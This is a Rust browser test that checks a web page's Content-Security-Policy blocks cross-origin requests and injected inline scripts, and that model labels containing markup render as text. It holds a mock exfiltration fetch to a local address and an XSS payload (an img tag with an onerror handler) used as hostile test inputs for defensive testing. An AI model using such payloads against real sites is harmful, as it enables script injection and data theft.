//! The built page's Content-Security-Policy in force in headless Chromium (issue 20): the page
//! works under it, a request to another origin and an injected inline script are refused, and a
//! weights file whose labels are markup shows them as text, never as HTML.

use candle_core::Device;
use ocellus::{Arch, InputSize, ModelCard, Task, TrainedModel};
use ocellus_e2e::chrome::{browser_or_skip, site_or_skip, Browser, PATIENCE};
use ocellus_e2e::fixture_images::generated;
use ocellus_e2e::static_server::StaticServer;

/// Runs in the page: listens for policy violations, tries a request to another origin and an
/// inline script, and answers the violated directives and whether the script ran.
const PROBE: &str = r#"
const done = arguments[arguments.length - 1];
const seen = [];
document.addEventListener('securitypolicyviolation', e => seen.push(e.effectiveDirective));
let fetched = 'refused';
try { await fetch('http://127.0.0.2:9/exfiltrate'); fetched = 'allowed'; } catch (e) {}
const s = document.createElement('script');
s.textContent = 'window.__injected = true;';
document.head.appendChild(s);
await new Promise(r => setTimeout(r, 300));
done({ seen, fetched, injected: window.__injected === true });
"#;

/// Waits for an element at `xpath`; `what` names the failure.
async fn wait_xpath(browser: &Browser, xpath: &str, what: &str) {
    browser.client.wait().at_most(PATIENCE).for_element(fantoccini::Locator::XPath(xpath)).await.expect(what);
}

#[tokio::test]
async fn the_policy_refuses_other_origins_and_inline_scripts_and_markup_stays_text() {
    let test = "the_policy_refuses_other_origins_and_inline_scripts_and_markup_stays_text";
    let Some(site) = site_or_skip(test) else { return };
    let html = std::fs::read_to_string(site.join("index.html")).unwrap();
    assert!(html.contains("http-equiv=\"Content-Security-Policy\"") && html.contains("connect-src 'self'"), "the built page has no policy");
    let Some(browser) = browser_or_skip(test).await else { return };
    let server = StaticServer::start(&site, "/ocellus/");
    browser.client.goto(&server.url).await.unwrap();
    // The page starts, fetches its model and wasm and runs its worker under the policy.
    browser.wait_for("#classify .model-ready").await;

    // The arrow function sees execute_async's own arguments, the callback last.
    let probe = browser.client.execute_async(&format!("(async () => {{ {PROBE} }})()"), vec![]).await.unwrap();
    eprintln!("policy probe: {probe}");
    assert_eq!(probe["fetched"], "refused", "{probe}");
    assert_eq!(probe["injected"], false, "an injected inline script ran: {probe}");
    let seen: Vec<String> = probe["seen"].as_array().unwrap().iter().map(|v| v.as_str().unwrap().to_string()).collect();
    assert!(seen.iter().any(|d| d == "connect-src"), "no connect-src violation: {seen:?}");
    assert!(seen.iter().any(|d| d.starts_with("script-src")), "no script-src violation: {seen:?}");

    // Labels that are markup: shown as text, no element made from them.
    let hostile = "<img id=\"injected\" src=\"x\" onerror=\"window.__pwned=1\">";
    let card = ModelCard::new(Task::Classify, Arch::LeNet, InputSize::square(32), vec![hostile.to_string(), "b".repeat(5000)]);
    let bytes = ocellus::fixtures::untrained_model_bytes(&card);
    TrainedModel::from_bytes(&bytes, &Device::Cpu).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let model = dir.path().join("markup-labels.safetensors");
    std::fs::write(&model, &bytes).unwrap();
    let image = generated().remove(1);
    let image_path = dir.path().join(&image.name);
    std::fs::write(&image_path, &image.bytes).unwrap();
    browser.upload("#classify input[type=file]", &model).await;
    wait_xpath(&browser, "//p[contains(@class,'model-ready')][contains(., 'markup-labels.safetensors')]", "the page never took the model with markup labels").await;
    browser.upload("#classify input[type=file]", &image_path).await;
    wait_xpath(&browser, "//li[contains(@class,'prediction')]/span[@class='label'][starts-with(text(), '<img')]", "the markup label is not shown as text").await;
    let found = browser.client.execute("return [document.getElementById('injected') === null, window.__pwned === undefined]", vec![]).await.unwrap();
    assert_eq!(found, serde_json::json!([true, true]), "a label became HTML");
    browser.close().await;
}
